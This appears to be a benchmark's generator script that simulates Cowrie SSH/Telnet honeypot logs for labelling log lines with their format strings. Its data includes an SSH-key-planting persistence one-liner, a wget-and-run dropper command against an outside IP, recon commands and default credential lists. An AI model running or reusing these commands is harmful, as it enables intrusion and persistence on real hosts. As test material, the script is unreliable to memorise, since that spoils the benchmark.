#!/usr/bin/env python3
# ruff: noqa: E501  (the log lines it writes are data, one per call)
"""Writes the held-out logs of round 241 (cowrie, opencanary, kismet, ntopng, arkime) into
bench/heldout/, the same way and under the same label rules as generate.py (bench/README.md,
"heldout.py"): each program's log is simulated from its format strings over a seeded run, and
every line that starts an event is labelled with the format string that wrote it as it is
written. Distinct calls of one process never share a timestamp at the log's resolution (round
53's Clock, kept per process and per file). Five network-security sensors of one company's
security team, 06:00 to 12:00 on 2024-06-07. None of the five was in the set (Suricata, Zeek,
Snort, CrowdSec, Wazuh and fail2ban are).

- Cowrie 2.5.0 (`hp-fra1-cowrie.log`, `hp-sgp1-cowrie.log`: two internet-facing SSH/Telnet
  honeypots in Docker, var/log/cowrie/cowrie.log with TZ=UTC, Twisted's text observer:
  `2024-06-07T06:00:03.123456Z [HoneyPotSSHTransport,12,203.0.113.5] Remote SSH version:
  SSH-2.0-Go`, the bracket the Twisted log context of the call: the factory, the transport with
  its session number and peer, `SSHService b'ssh-userauth' on ...`, a channel, or a new-style
  logger's `namespace#level`). Password guessing all day (each connection's `New connection: %s:%s
  (%s:%s) [session: %s]`, `Remote SSH version: %s`, `SSH client hassh fingerprint: %s`, conch's
  debug `kex alg=%s key alg=%s`, `outgoing: %s %s %s`, `incoming: %s %s %s`, `NEW KEYS`,
  `starting service %s`, then per attempt `%s trying auth %s`, `Could not read etc/userdb.txt,
  default database activated`, `login attempt [%s/%s] failed` with conch's `%s failed auth %s`
  and `unauthorized login: %s`, and at the end `connection lost`, `Connection lost after %d
  seconds`); a credential-stuffing campaign from one address on hp-fra1 08:10-08:31; logins
  the default user database accepts (`login attempt [%s/%s] succeeded`, `Initialized emulated
  server as architecture: %s`, `%s authenticated with %s`, `got channel %s request`, `channel
  open`, `executing command "%s"`, `CMD: %s`, `Command found: %s` / `Command not found: %s`,
  `sending request %s`, `sending close %s`, `remote close`, `avatar %s logging out`): the
  `mdrfckr` key planter, recon one-liners, two droppers fetching a script (`Downloaded URL (%s)
  with SHA-256 %s to %s`), bots using the honeypot as a proxy (`direct-tcp connection request to
  %s:%s from %s:%s`, `discarded direct-tcp forward request %s to %s:%s with data %s`), scanners
  sending HTTP to the SSH port (`Bad protocol version identification: %s`), clients closing with
  `Got remote error, code %s reason: %s`; Mirai-style Telnet sessions on port 2223.
- OpenCanary 0.9.3 on two internal canaries. canary-nas01 (`canary-nas01-journal.log`:
  `journalctl -u opencanary -o short-iso`, the unit running `opencanaryd --dev`, i.e. `twistd
  -noy`): the VM rebooted at 06:02 (the tac's JSON `logMsg` lines `Added service from class %s in
  %s to fake`, `Ran startYourEngines on class %s in %s`, `Canary running!!!` written straight to
  stdout before twistd's buffered `Loading %s...`, `Loaded.`, `twistd %s (%s %s) starting up.`,
  `reactor class: %s.`, `%s starting on %d`, `Starting factory %s`; the portscan module's
  `sudo iptables -D ...` calls with sudo's `%s : PWD=%s ; USER=%s ; COMMAND=%s`, pam_unix's
  session opened/closed lines and iptables-legacy's `iptables: Bad rule (does a matching rule
  exist in that chain?).`), the NAS skin's web page (Twisted's combined access log under
  `[twisted.python.log#info]`, one record per request, the event JSON on stdout for each GET and
  login POST), the Slack webhook revoked at 08:00 (the handler's print `Error %s sending Slack
  message, the response was:\\n%s` under `[stdout#info]`, two journal entries per write after
  every event), FTP and SMB touches; canary-srv01 (`canary-srv01-opencanary.log`:
  /var/tmp/opencanary.log, the file handler's JSON lines only): SSH, Telnet, MySQL, MSSQL, RDP,
  VNC and Redis modules; the weekly vulnerability scan 07:00-07:45, a backup job with a stale
  SSH password every five minutes from 09:00, and a compromised workstation (10.20.4.77)
  scanning and spraying both canaries 10:20-10:55 (`LOG_PORT_SYN`, `LOG_PORT_NMAPOS`,
  `LOG_SMB_FILE_OPEN` of the Finance share, `LOG_FTP_LOGIN_ATTEMPT`,
  `LOG_HTTP_POST_LOGIN_ATTEMPT`, `LOG_MSSQL_LOGIN_SQLAUTH` for `sa`, `LOG_SSH_LOGIN_ATTEMPT`,
  `LOG_RDP`). The JSON is `json.dumps(logdata, sort_keys=True)`: `dst_host`, `dst_port`,
  `local_time`, `local_time_adjusted` (CEST), `logdata`, `logtype`, `node_id`, `src_host`,
  `src_port`, `utc_time`; portscan and SMB records carry their ports as strings.
- Kismet 2023.07.R1 WIDS sensors (`wids-floor2-journal.log`, `wids-lobby-journal.log`:
  `journalctl -u kismet -o short-iso`, kismet run with `--no-ncurses`, messages printed as
  `INFO: `, `ALERT: ` or `ERROR: ` and wrapped at 75 columns (the C++ `in_line_wrap` ported as
  is, continuation lines indented by the tag's width, one journal entry per line): devices seen
  as the office fills (`Detected new 802.11 Wi-Fi device %s`, randomised phone addresses most of
  all), access points (`Detected new 802.11 Wi-Fi access point %s`, `802.11 Wi-Fi device %s
  advertising SSID '%s'` / `... advertising a cloaked SSID`), `NOCLIENTMFP` alerts for clients
  without management frame protection, APs moving channel (`CHANCHANGE`); a deauthentication
  attack on the guest network 10:41-10:48 on floor2 (`DEAUTHFLOOD Deauth/Disassociate flood on
  %s`, `BCASTDISCON ...`) with an evil twin of the corporate SSID (`APSPOOF ...`); the lobby
  sensor restarted at 09:05 after a configuration change (systemd's `Stopping %s...`,
  `Deactivated successfully.`, `Consumed %s CPU time.`, `Started %s.`, and the start-up
  messages: `Including sub-config file: %s`, `Loading config override file '%s'`, `Setting
  server UUID %s`, `Opened OUI file '%s`, `Starting Kismet web server...`, `Started http server
  on port %d`, `Opened kismetdb log file '%s'`, `Probing interface '%s' to find datasource
  type`, `Found type '%s' for '%s'`, `Data source '%s' launched successfully`, the `ROOTUSER`
  alert) and its USB adapter dropping off 11:02-11:04 (`Data source %s (%s) encountered an
  error: %s`, the `SOURCEERROR` alert and the same text at ERROR with the failure count,
  `Attempting to re-open source %s`, `SOURCEOPEN Source %s successfully re-opened`).
- ntopng 6.0 Community (`nms-hq-journal.log`, `nms-branch-journal.log`: `journalctl -u ntopng -o
  short-iso`; ntopng prints `%d/%b/%Y %H:%M:%S [File.cpp:line] [ERROR: |WARNING: ]msg` on stdout
  and sends errors and warnings to syslog too, so each of those is a second journal entry without
  the date): nms-hq restarted at 06:02 by the nightly upgrade (`Setting local networks to %s`,
  `Successfully connected to redis %s:%u@%u`, `Reading packets from interface %s...`,
  `Registered interface %s [id: %d]`, `PID stored in file %s`, `HTTPS Disabled: missing SSL
  certificate %s`, the README.SSL hint, `Unable to retain privileges for privileged file
  writing`, `User changed to %s`, `Web server dirs [%s][%s]`, `HTTP server listening on %s`,
  `Working directory: %s`, `Scripts/HTML pages directory: %s`, `Welcome to %s %s v.%s (%s)`,
  `Built on %s`, `(C) 1998-24 ntop`, `Adding %s as IPv4 interface address for %s`, `Adding %s as
  IPv4 local network for %s`, `Started periodic activities loop...`, `Each periodic activity
  script will use %d threads`, `Started packet polling on interface %s [id: %u]...`, and on the
  SPAN ports `Invalid packet received [len: %u][max len: %u].` with the TSO/GRO warnings); its
  Redis OOM-killed eight times 09:05-10:08 (`Redis has disconnected, reconnecting [remaining
  attempts: %u]`, `Connection error [Connection refused]`, `LOADING Redis is loading the dataset
  in memory`); nms-branch's admin restarting ntopng four times 10:20-11:10 while tuning its
  options, once while the old process still held port 3000 (`Unable to start HTTP server (IPv4)
  on ports %s %s`, `Either port in use or another ntopng instance is running (using the same
  port)`, systemd's `Main process exited, code=%s, status=%s`, `Failed with result '%s'.`,
  `Scheduled restart job, restart counter is at %d.`).
- Arkime 5.3 (`arkime-cap01-capture.log`, `arkime-cap02-capture.log`: /opt/arkime/logs/
  capture.log of two capture nodes, the LOG macro's `%15.15s %s:%d %s(): ` head (ctime's `Jun
  7 06:00:01`, file, line, function); `arkime-viewer.log`: the viewer's morgan access log with its
  default format `:date :username \\x1b[1m:method\\x1b[0m \\x1b[33m:url\\x1b[0m :status
  :res[content-length] bytes :response-time ms`): each node's packet statistics line every few
  hundred thousand packets (`packets: %lu current sessions: %u/%u oldest: %d - recv: %lu drop:
  %lu (%0.2f) queue: %d disk: %d packet: %d close: %d ns: %d frags: %d/%d pstats:
  %lu/%lu/%lu/%lu/%lu/%lu/%lu`); the backup window overrunning cap01's packet threads 07:00-07:35
  (`WARNING - Packet Q %u is overflowing, total dropped so far %u.  See
  https://arkime.com/faq#why-am-i-dropping-packets and modify %s`); the OpenSearch cluster's
  rolling restart going red 09:15-09:36 (`Retry %s error '%s'` with curl's `Couldn't connect to
  server`, then `ERROR - Dropping request %.*s of size %u queue %u is too big` as the bulk queue
  passes its limit, the viewer's searches answering 500); cap02 restarted at 10:05 (`Final
  cleanup`, `WARNING: memlock in limits.conf must be unlimited or at least 4000000, currently
  %lu`, `Initial Packet = %ld`, `%lu Initial Dropped = %d`); the load balancer's `GET /` health
  check (401) every minute and three analysts' searches, SPI views, connection graphs, session
  details and packets (labelled by method, route and status, as the set's access records).

Label notes. The heads are context: Cowrie's and Twisted's time and `[system]` bracket, the
journal's time, host and ident, twistd's own time and `[-]` / `[namespace#level]`, Kismet's
`INFO: ` / `ALERT: ` / `ERROR: ` tag (an alert's header, `NOCLIENTMFP`, is the alert's own
wording), ntopng's date and `[File.cpp:line]` with the `ERROR: ` / `WARNING: ` it adds, Arkime's
ctime, `file:line` and `function(): `; systemd's `unit: ` before `log_unit_*` lines. OpenCanary's
records have no message: each is labelled by the logtype constant its call site passes
(`LOG_SSH_LOGIN_ATTEMPT`), as round 68's SFTPGo records by their sender; its `LOG_BASE_MSG`
records carry a message, labelled by its format. Twisted's and morgan's access records are
labelled by method, route and status. A value that is an error contributes its format
(`Connection error [Connection refused]`, curl's `Couldn't connect to server`, Redis's `LOADING
...`, the source error after `encountered an error: `). The later lines of one write have no
row: Kismet's wrapped lines, the Slack print's second line.

Checked against copies of the sources: Cowrie's transport, userauth checkers, forwarding,
session and shell messages and its log file's time format; OpenCanary's logger (logtypes, the
JSON with sorted keys, `sanitizeLog`), the tac's start-up messages, the opencanaryd script
(`twistd -noy` for `--dev`), the portscan module's iptables calls and the HTTP and SSH modules'
logdata keys; Kismet's stdout message client and `in_line_wrap`, the new device / advertised
SSID messages, the DEAUTHFLOOD, BCASTDISCON, APSPOOF and CHANCHANGE alert texts and the data
source error handling (`SOURCEERROR`, `Attempting to re-open source %s`, `SOURCEOPEN`); ntopng's
`Trace::traceEvent` layout (and its syslog copy of errors and warnings), Redis.cpp's reconnect
messages, a real start-up sequence; Arkime's LOG macro, the packet statistics line, the packet
queue overflow, the dropped bulk request, `Final cleanup` and the memlock warning. Least sure
(written from the helper's knowledge): Cowrie's `unauthorized login: ` with an empty message,
which system bracket each conch line carries, `Downloaded URL` under `[-]`; OpenCanary's
MySQL, MSSQL, RDP and VNC logdata keys, the Twisted access log's `[twisted.python.log#info]`
head, sudo's and pam_unix's lines in the unit's journal; Kismet's `NOCLIENTMFP` text (from a
2020 console), the start-up sequence of 2023.07 and the source error's inner text; ntopng 6.0's
`Welcome` git string, line numbers and the order of the start-up lines; Arkime's curl `Retry %s
error '%s'`, `Initial Packet` / `Initial Dropped` in 5.x, the viewer's API routes and its
access log format.
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from generate import Log, generate, hexid
from generate_round97 import Files, sec
from generate_round147 import T0, T_END, at

US = 1
MS = 1_000
SEC = 1_000_000


def every(
    r: random.Random, t0: datetime, t1: datetime, period: float, jitter: float
) -> list[datetime]:
    """Instants from t0 to t1 about `period` seconds apart (each moved by up to `jitter`)."""
    out, t = [], t0
    while t < t1:
        out.append(t + sec(r.uniform(0, jitter)))
        t += sec(period)
    return out


def iso_s(t: datetime) -> str:
    """journalctl -o short-iso's time (UTC host)."""
    return f"{t:%Y-%m-%dT%H:%M:%S}+00:00"


def umac(r: random.Random, oui: str = "", local: bool = False) -> str:
    """An upper-case MAC address, under `oui` if given; `local`: a randomised (locally
    administered) address as phones use when probing."""
    if oui:
        return oui + ":" + ":".join(f"{r.randrange(256):02X}" for _ in range(3))
    b = [r.randrange(256) for _ in range(6)]
    if local:
        b[0] = (b[0] | 0x02) & 0xFE
    return ":".join(f"{x:02X}" for x in b)


# ----------------------------------------------------------------------------------- cowrie

CW_ATTACKERS = [
    "45.148.10",
    "61.177.172",
    "218.92.0",
    "180.101.88",
    "193.201.9",
    "141.98.11",
    "92.255.85",
    "103.145.13",
    "185.224.128",
    "5.181.80",
    "194.169.175",
    "179.43.180",
    "2.57.122",
    "116.110.7",
]
# client version, hassh, kex algorithm, host key algorithm, cipher, mac
CW_CLIENTS = [
    (
        "SSH-2.0-Go",
        "b'curve25519-sha256@libssh.org'",
        "b'rsa-sha2-256'",
        "b'aes128-ctr'",
        "b'hmac-sha2-256'",
        30,
    ),
    (
        "SSH-2.0-libssh_0.9.6",
        "b'curve25519-sha256'",
        "b'ssh-ed25519'",
        "b'aes256-ctr'",
        "b'hmac-sha2-256'",
        22,
    ),
    (
        "SSH-2.0-libssh2_1.10.0",
        "b'diffie-hellman-group14-sha256'",
        "b'rsa-sha2-512'",
        "b'aes128-ctr'",
        "b'hmac-sha2-256'",
        14,
    ),
    (
        "SSH-2.0-PUTTY",
        "b'diffie-hellman-group14-sha1'",
        "b'ssh-rsa'",
        "b'aes256-ctr'",
        "b'hmac-sha1'",
        9,
    ),
    (
        "SSH-2.0-paramiko_3.4.0",
        "b'curve25519-sha256@libssh.org'",
        "b'ssh-ed25519'",
        "b'aes128-ctr'",
        "b'hmac-sha2-512'",
        6,
    ),
    (
        "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
        "b'curve25519-sha256'",
        "b'ssh-ed25519'",
        "b'aes128-ctr'",
        "b'hmac-sha2-256'",
        5,
    ),
    (
        "SSH-2.0-AsyncSSH_2.14.2",
        "b'curve25519-sha256'",
        "b'ecdsa-sha2-nistp256'",
        "b'aes256-ctr'",
        "b'hmac-sha2-512'",
        3,
    ),
]
CW_USERS = [
    ("root", 40),
    ("admin", 12),
    ("ubuntu", 6),
    ("user", 5),
    ("test", 4),
    ("oracle", 3),
    ("postgres", 3),
    ("git", 2),
    ("pi", 2),
    ("ftpuser", 2),
    ("debian", 2),
    ("support", 1),
    ("guest", 1),
    ("hadoop", 1),
    ("sol", 1),
    ("validator", 1),
]
CW_PASSWORDS = [
    "123456",
    "root",
    "admin",
    "password",
    "12345678",
    "1234",
    "123",
    "qwerty",
    "P@ssw0rd",
    "1qaz2wsx",
    "admin123",
    "test",
    "ubuntu",
    "raspberry",
    "changeme",
    "toor",
    "Passw0rd!",
    "abc123",
    "111111",
    "welcome1",
    "Huawei@123",
    "root123",
    "default",
    "dietpi",
]
CW_MDRFCKR = 'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
CW_MDRFCKR_PARTS = [
    "cd ~",
    "rm -rf .ssh",
    "mkdir .ssh",
    "echo ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr",
    "chmod -R go= ~/.ssh",
    "cd ~",
]
# an exec command line and the (found, text) pieces cowrie's shell logs for it
CW_RECON = [
    ("uname -s -v -n -r -m", [(True, "uname -s -v -n -r -m")]),
    (
        "cat /proc/cpuinfo | grep name | wc -l",
        [(True, "cat /proc/cpuinfo"), (True, "grep name"), (True, "wc -l")],
    ),
    (
        'echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"',
        [(True, "echo -e \\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A")],
    ),
    ("uname -a; nproc", [(True, "uname -a"), (True, "nproc")]),
    ("/ip cloud print", [(False, "/ip cloud print")]),
    ("lscpu | grep Model", [(True, "lscpu"), (True, "grep Model")]),
    (
        "ifconfig; uname -m; cat /proc/meminfo",
        [(True, "ifconfig"), (True, "uname -m"), (True, "cat /proc/meminfo")],
    ),
    ("system", [(False, "system")]),
]
CW_PROXY_TARGETS = [
    (
        "api.ipify.org",
        80,
        "b'GET / HTTP/1.1\\r\\nHost: api.ipify.org\\r\\nUser-Agent: Go-http-client/1.1\\r\\nAccept-Encoding: gzip\\r\\n\\r\\n'",
    ),
    ("www.google.com", 443, "b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03'"),
    (
        "ip-api.com",
        80,
        "b'GET /json HTTP/1.1\\r\\nHost: ip-api.com\\r\\nUser-Agent: curl/7.88.1\\r\\nAccept: */*\\r\\n\\r\\n'",
    ),
    ("smtp.mail.yahoo.com", 587, "b'EHLO [127.0.0.1]\\r\\n'"),
]


def cowrie(r: random.Random) -> list[Log]:
    """Two SSH/Telnet honeypots, 06:00 to 12:00 (see the module docstring)."""
    fs = Files()
    sensors = {"hp-fra1": "172.17.0.2", "hp-sgp1": "172.18.0.3"}
    sessionno = {"hp-fra1": 4120, "hp-sgp1": 2877}
    cweights = [w for *_, w in CW_CLIENTS]
    uweights = [w for _, w in CW_USERS]
    hassh = {c[0]: hexid(r, 32) for c in CW_CLIENTS}

    def L(s: str, t: datetime, system: str, label: str, msg: str) -> datetime:
        return fs.add(
            f"{s}-cowrie.log",
            t,
            label,
            lambda x: [f"{x:%Y-%m-%dT%H:%M:%S}.{x.microsecond:06d}Z [{system}] {msg}"],
            s,
            US,
        )

    def step(t: datetime, lo: float, hi: float) -> datetime:
        return t + sec(r.uniform(lo, hi))

    def attacker(fixed: str = "") -> str:
        return fixed or f"{r.choice(CW_ATTACKERS)}.{r.randint(2, 254)}"

    def connect(s: str, t: datetime, ip: str, telnet: bool = False) -> tuple[datetime, int, str]:
        sessionno[s] += 1
        n = sessionno[s]
        sid = hexid(r, 12)
        port = 2223 if telnet else 2222
        fac = (
            "cowrie.telnet.factory.HoneyPotTelnetFactory"
            if telnet
            else "cowrie.ssh.factory.CowrieSSHFactory"
        )
        t = L(
            s,
            t,
            fac,
            "New connection: %s:%s (%s:%s) [session: %s]",
            f"New connection: {ip}:{r.randint(32768, 65000)} ({sensors[s]}:{port}) [session: {sid}]",
        )
        return t, n, sid

    def handshake(s: str, t: datetime, n: int, ip: str, client: tuple) -> datetime:
        ver, kex, key, enc, mac_, _ = client
        tr = f"HoneyPotSSHTransport,{n},{ip}"
        t = L(s, step(t, 0.05, 0.6), tr, "Remote SSH version: %s", f"Remote SSH version: {ver}")
        t = L(
            s,
            step(t, 0.0005, 0.004),
            tr,
            "SSH client hassh fingerprint: %s",
            f"SSH client hassh fingerprint: {hassh[ver]}",
        )
        dbg = "cowrie.ssh.transport.HoneyPotSSHTransport#debug"
        t = L(
            s,
            step(t, 0.0005, 0.003),
            dbg,
            "kex alg=%s key alg=%s",
            f"kex alg={kex} key alg={key}",
        )
        t = L(
            s,
            step(t, 0.0001, 0.0005),
            dbg,
            "outgoing: %s %s %s",
            f"outgoing: {enc} {mac_} b'none'",
        )
        t = L(
            s,
            step(t, 0.0001, 0.0005),
            dbg,
            "incoming: %s %s %s",
            f"incoming: {enc} {mac_} b'none'",
        )
        t = L(s, step(t, 0.05, 0.4), tr, "NEW KEYS", "NEW KEYS")
        return L(
            s,
            step(t, 0.05, 0.3),
            tr,
            "starting service %s",
            "starting service b'ssh-userauth'",
        )

    def attempt(s: str, t: datetime, n: int, ip: str, user: str, pw: str, ok: bool) -> datetime:
        ua = f"SSHService b'ssh-userauth' on HoneyPotSSHTransport,{n},{ip}"
        t = L(
            s,
            step(t, 0.1, 2.5),
            ua,
            "%s trying auth %s",
            f"b'{user}' trying auth b'password'",
        )
        t = L(
            s,
            step(t, 0.0003, 0.002),
            ua,
            "Could not read etc/userdb.txt, default database activated",
            "Could not read etc/userdb.txt, default database activated",
        )
        if ok:
            t = L(
                s,
                step(t, 0.0001, 0.0008),
                ua,
                "login attempt [%s/%s] succeeded",
                f"login attempt [b'{user}'/b'{pw}'] succeeded",
            )
            t = L(
                s,
                step(t, 0.0005, 0.003),
                ua,
                "Initialized emulated server as architecture: %s",
                "Initialized emulated server as architecture: linux-x64-lsb",
            )
            t = L(
                s,
                step(t, 0.0005, 0.002),
                ua,
                "%s authenticated with %s",
                f"b'{user}' authenticated with b'password'",
            )
            return L(
                s,
                step(t, 0.0001, 0.0005),
                ua,
                "starting service %s",
                "starting service b'ssh-connection'",
            )
        t = L(
            s,
            step(t, 0.0001, 0.0008),
            ua,
            "login attempt [%s/%s] failed",
            f"login attempt [b'{user}'/b'{pw}'] failed",
        )
        t = L(
            s,
            step(t, 0.9, 1.1),
            "twisted.conch.ssh.userauth#debug",
            "%s failed auth %s",
            f"b'{user}' failed auth b'password'",
        )
        return L(
            s,
            step(t, 0.00005, 0.0003),
            "twisted.conch.ssh.userauth#debug",
            "unauthorized login: %s",
            "unauthorized login: ",
        )

    def close(s: str, t: datetime, t0: datetime, n: int, ip: str, reason: str = "") -> datetime:
        tr = f"HoneyPotSSHTransport,{n},{ip}"
        if reason:
            t = L(
                s,
                step(t, 0.05, 0.5),
                tr,
                "Got remote error, code %s reason: %s",
                f"Got remote error, code 11 reason: {reason}",
            )
        t = L(
            s,
            step(t, 0.001, 0.3),
            "cowrie.ssh.transport.HoneyPotSSHTransport#info",
            "connection lost",
            "connection lost",
        )
        return L(
            s,
            step(t, 0.0001, 0.0006),
            tr,
            "Connection lost after %d seconds",
            f"Connection lost after {int((t - t0).total_seconds())} seconds",
        )

    def brute(s: str, t: datetime, ip: str = "", tries: int = 0) -> None:
        ip = attacker(ip)
        client = r.choices(CW_CLIENTS, cweights)[0]
        t0, n, _ = connect(s, t, ip)
        t = handshake(s, t0, n, ip, client)
        k = tries or r.choice([1, 1, 1, 1, 2, 2, 3, 4, 6])
        for _ in range(k):
            user = r.choices([u for u, _ in CW_USERS], uweights)[0]
            pw = r.choice(CW_PASSWORDS)
            if user == "root" and pw not in ("root", "123456"):
                pw = r.choice(["root", "123456"])
            t = attempt(s, t, n, ip, user, pw, False)
        reason = {"SSH-2.0-libssh_0.9.6": "b'Bye Bye'", "SSH-2.0-PUTTY": "b''"}.get(client[0], "")
        close(s, t, t0, n, ip, reason)

    def login(s: str, t: datetime, kind: str) -> None:
        ip = attacker()
        client = r.choices(CW_CLIENTS[:3], [5, 3, 2])[0]
        t0, n, _ = connect(s, t, ip)
        t = handshake(s, t0, n, ip, client)
        if r.random() < 0.5:
            t = attempt(s, t, n, ip, "root", r.choice(["root", "123456"]), False)
        t = attempt(s, t, n, ip, "root", r.choice(["admin", "1qaz2wsx", "P@ssw0rd", "toor"]), True)
        conn = f"SSHService b'ssh-connection' on HoneyPotSSHTransport,{n},{ip}"
        if kind == "proxy":
            for host, port, data in r.sample(CW_PROXY_TARGETS, r.randint(1, 2)):
                t = L(
                    s,
                    step(t, 0.1, 1.5),
                    conn,
                    "direct-tcp connection request to %s:%s from %s:%s",
                    f"direct-tcp connection request to {host}:{port} from 127.0.0.1:{r.randint(40000, 60000)}",
                )
                ch = f"SSHChannel cowrie-discarded-direct-tcpip ({r.randint(0, 3)}) on {conn}"
                t = L(
                    s,
                    step(t, 0.05, 0.4),
                    ch,
                    "discarded direct-tcp forward request %s to %s:%s with data %s",
                    f"discarded direct-tcp forward request {r.randint(0, 3)} to {host}:{port} with data {data}",
                )
            close(s, t, t0, n, ip)
            return
        t = L(
            s,
            step(t, 0.05, 0.4),
            conn,
            "got channel %s request",
            "got channel b'session' request",
        )
        ch = f"SSHChannel session (0) on {conn}"
        t = L(s, step(t, 0.0003, 0.002), ch, "channel open", "channel open")
        if kind == "mdrfckr":
            line, parts = CW_MDRFCKR, [(True, p) for p in CW_MDRFCKR_PARTS]
        elif kind == "dropper":
            host = r.choice(["94.156.8.213", "45.95.147.236"])
            line = f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{host}/bins.sh; chmod 777 bins.sh; sh bins.sh"
            parts = [
                (True, "cd /tmp"),
                (True, f"wget http://{host}/bins.sh"),
                (True, "chmod 777 bins.sh"),
                (True, "sh bins.sh"),
            ]
        else:
            line, parts = r.choice(CW_RECON)
        t = L(
            s,
            step(t, 0.0005, 0.003),
            ch,
            'executing command "%s"',
            f"executing command \"b'{line}'\"",
        )
        t = L(s, step(t, 0.001, 0.006), ch, "CMD: %s", f"CMD: {line}")
        for found, text in parts:
            if found:
                t = L(s, step(t, 0.0002, 0.002), ch, "Command found: %s", f"Command found: {text}")
            else:
                t = L(
                    s,
                    step(t, 0.0002, 0.002),
                    ch,
                    "Command not found: %s",
                    f"Command not found: {text}",
                )
            if text.startswith("wget "):
                sha = hexid(r, 64)
                t = L(
                    s,
                    step(t, 0.4, 2.5),
                    "-",
                    "Downloaded URL (%s) with SHA-256 %s to %s",
                    f"Downloaded URL ({text[5:]}) with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}",
                )
        t = L(
            s,
            step(t, 0.002, 0.02),
            ch,
            "sending request %s",
            "sending request b'exit-status'",
        )
        t = L(s, step(t, 0.0002, 0.001), ch, "sending close %s", "sending close 0")
        t = L(s, step(t, 0.05, 0.6), ch, "remote close", "remote close")
        t = L(
            s,
            step(t, 0.001, 0.1),
            f"HoneyPotSSHTransport,{n},{ip}",
            "avatar %s logging out",
            "avatar root logging out",
        )
        close(s, t, t0, n, ip)

    def scanner(s: str, t: datetime) -> None:
        ip = attacker()
        t0, n, _ = connect(s, t, ip)
        tr = f"HoneyPotSSHTransport,{n},{ip}"
        if r.random() < 0.45:
            t = L(
                s,
                step(t0, 0.05, 0.4),
                tr,
                "Remote SSH version: %s",
                "Remote SSH version: GET / HTTP/1.1",
            )
            t = L(
                s,
                step(t, 0.0002, 0.001),
                tr,
                "Bad protocol version identification: %s",
                "Bad protocol version identification: b'GET / HTTP/1.1'",
            )
            close(s, t, t0, n, ip)
            return
        t = L(
            s,
            step(t0, 0.05, 0.4),
            tr,
            "Remote SSH version: %s",
            "Remote SSH version: SSH-2.0-ZGrab ZGrab SSH Survey",
        )
        close(s, t, t0, n, ip)

    def telnet(s: str, t: datetime) -> None:
        ip = attacker()
        t0, n, _ = connect(s, t, ip, telnet=True)
        au = f"HoneyPotTelnetAuthProtocol,{n},{ip}"
        tt = f"CowrieTelnetTransport,{n},{ip}"
        t = t0
        creds = [("root", "xc3511"), ("admin", "admin"), ("root", "vizxv"), ("support", "support")]
        ok = r.random() < 0.6
        tried = r.sample(creds, r.randint(1, 3))
        for i, (u, p) in enumerate(tried):
            last = ok and i == len(tried) - 1
            t = L(
                s,
                step(t, 0.5, 3),
                au,
                "login attempt [%s/%s] succeeded" if last else "login attempt [%s/%s] failed",
                f"login attempt [b'{u}'/b'{p}'] {'succeeded' if last else 'failed'}",
            )
            if last:
                t = L(
                    s,
                    step(t, 0.0005, 0.003),
                    au,
                    "Initialized emulated server as architecture: %s",
                    "Initialized emulated server as architecture: linux-arm-lsb",
                )
                for cmd, found in [
                    ("enable", False),
                    ("system", False),
                    ("shell", False),
                    ("sh", True),
                    ("/bin/busybox ECCHI", True),
                ]:
                    t = L(s, step(t, 0.3, 1.2), tt, "CMD: %s", f"CMD: {cmd}")
                    t = L(
                        s,
                        step(t, 0.0002, 0.001),
                        tt,
                        "Command found: %s" if found else "Command not found: %s",
                        f"Command {'found' if found else 'not found'}: {cmd}",
                    )
                break
        L(
            s,
            step(t, 0.2, 2),
            tt,
            "Connection lost after %d seconds",
            f"Connection lost after {int((t - t0).total_seconds()) + 1} seconds",
        )

    kinds = [
        (70, lambda s, t: brute(s, t)),
        (7, lambda s, t: scanner(s, t)),
        (8, lambda s, t: telnet(s, t)),
        (4, lambda s, t: login(s, t, "recon")),
        (2, lambda s, t: login(s, t, "mdrfckr")),
        (2, lambda s, t: login(s, t, "proxy")),
    ]
    kweights = [w for w, _ in kinds]
    for s, rate in [("hp-fra1", 430.0), ("hp-sgp1", 520.0)]:
        t = T0 + sec(r.uniform(3, 40))
        while t < T_END - sec(120):
            r.choices(kinds, kweights)[0][1](s, t)
            t += sec(r.expovariate(1 / rate) + 2)
    # credential stuffing from one address on hp-fra1
    stuffer = "141.98.11.93"
    t = at(8, 10, 4)
    while t < at(8, 31):
        brute("hp-fra1", t, stuffer, r.randint(3, 5))
        t += sec(r.uniform(35, 70))
    for s, tp in [
        ("hp-sgp1", at(6, 47, 20)),
        ("hp-fra1", at(9, 26, 3)),
        ("hp-sgp1", at(11, 31, 44)),
    ]:
        login(s, tp, "proxy")
